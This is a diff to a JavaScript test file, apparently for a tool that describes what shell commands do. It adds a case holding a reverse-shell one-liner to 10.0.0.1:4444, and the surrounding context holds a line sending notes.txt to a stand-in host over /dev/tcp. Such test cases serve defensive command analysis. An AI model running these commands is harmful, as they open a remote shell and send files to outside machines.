@@ -73,6 +73,16 @@ describe('descriptors', () => {
       ],
     ],
     [
+      'a shell joined to it in a pipe',
+      'echo a | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      [
+        'connect:tunnel 10.0.0.1:4444',
+        'execute:arbitrary bash',
+        'execute:remote-shell a shell joined to the network',
+        'send:data /dev/tcp',
+      ],
+    ],
+    [
       'a file sent through it',
       'cat notes.txt > /dev/tcp/x.example/80',
       ['connect:tunnel x.example:80', 'read notes.txt', 'send:data /dev/tcp'],
